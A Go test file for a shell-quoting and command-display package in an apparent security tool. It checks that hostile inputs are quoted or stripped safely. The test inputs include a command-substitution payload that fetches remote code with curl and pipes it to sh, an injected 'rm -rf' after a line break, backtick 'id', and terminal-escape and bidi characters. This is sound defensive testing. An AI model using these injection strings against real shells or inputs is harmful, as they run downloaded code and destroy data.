package plain_test

import (
	"os/exec"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/salve-security/salve/internal/plain"
)

func TestShell(t *testing.T) {
	tests := map[string]struct{ in, want string }{
		"an ARN":          {"arn:aws:iam::2:user/a/b+c=d,e.f@g_h-i", "arn:aws:iam::2:user/a/b+c=d,e.f@g_h-i"},
		"nothing":         {"", "''"},
		"space":           {"a b", "'a b'"},
		"substitution":    {"user/$(curl$IFS$19e.io|sh)/bob", "'user/$(curl$IFS$19e.io|sh)/bob'"},
		"backticks":       {"a`id`", "'a`id`'"},
		"quote":           {"a'b", `'a'\''b'`},
		"double quote":    {`a"b`, `'a"b'`},
		"option":          {"-rf", "-rf"}, // quoted it would be the same option
		"home":            {"~root", "'~root'"},
		"pattern":         {"a*[b]", "'a*[b]'"},
		"history":         {"a!!", "'a!!'"},
		"line break":      {"a\nrm -rf x", "'arm -rf x'"},
		"terminal escape": {"a\x1b[2J\u009b", "'a[2J'"},
		"bidi override":   {"a\u202Eb", "ab"},
		"no-break space":  {"a\u00A0b", "ab"},
		"broken UTF-8":    {"a\xffb", "ab"},
		"accents":         {"größe", "'größe'"},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			if got := plain.Shell(tc.in); got != tc.want {
				t.Errorf("Shell(%q) = %s, want %s", tc.in, got, tc.want)
			}
		})
	}
}

func TestCommand(t *testing.T) {
	tests := map[string]struct {
		word, want string
		whole      bool
	}{
		"plain":        {"arn:aws:s3:::logs", "salve show arn:aws:s3:::logs", true},
		"quoted":       {"a;b", "salve show 'a;b'", true},
		"line break":   {"a\nb", "salve show ab", false},
		"invisible":    {"a\u200bb", "salve show ab", false},
		"two spaces":   {"a  b", "salve show 'a  b'", false}, // a line has one
		"broken UTF-8": {"a\xff", "salve show a", false},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			if got, whole := plain.Command("salve", "show", tc.word); got != tc.want || whole != tc.whole {
				t.Errorf("got %s (%v), want %s (%v)", got, whole, tc.want, tc.whole)
			}
		})
	}
}

func TestWhole(t *testing.T) {
	tests := map[string]struct{ text, shown, want string }{
		"as it is":        {"salve show r1", "salve show r1", "salve show r1"},
		"cut":             {"salve apply S3.8 x", "salve app…", "instead"},
		"cut after words": {"Wait; then run salve apply S3.8 x", "Wait; th…", "instead"},
		"cut words":       {"Ask the owner of the policy", "Ask the…", "Ask the…"},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			if got := plain.Whole(tc.text, tc.shown, "instead"); got != tc.want {
				t.Errorf("got %q, want %q", got, tc.want)
			}
		})
	}
}

// FuzzShell: a shell gets back what was put in, but for what does not show.
func FuzzShell(f *testing.F) {
	for _, s := range []string{"", "-n", "a'b", "$(id)", "`id`;|&&\\", "\\'", "größe", "a\u202Eb\n", "~", "!!"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		quoted := plain.Shell(s)
		out, err := exec.CommandContext(t.Context(), "sh", "-c", "printf '<%s>' "+quoted).CombinedOutput()
		if err != nil {
			t.Fatalf("%s: %v: %s", quoted, err, out)
		}
		got := string(out)
		if again := plain.Shell(strings.TrimSuffix(strings.TrimPrefix(got, "<"), ">")); again != quoted {
			t.Errorf("%q became %s, which became %q and %s", s, quoted, got, again)
		}
		if _, whole := plain.Command(s); whole && utf8.ValidString(s) && got != "<"+s+">" {
			t.Errorf("%q became %q", s, got)
		}
	})
}
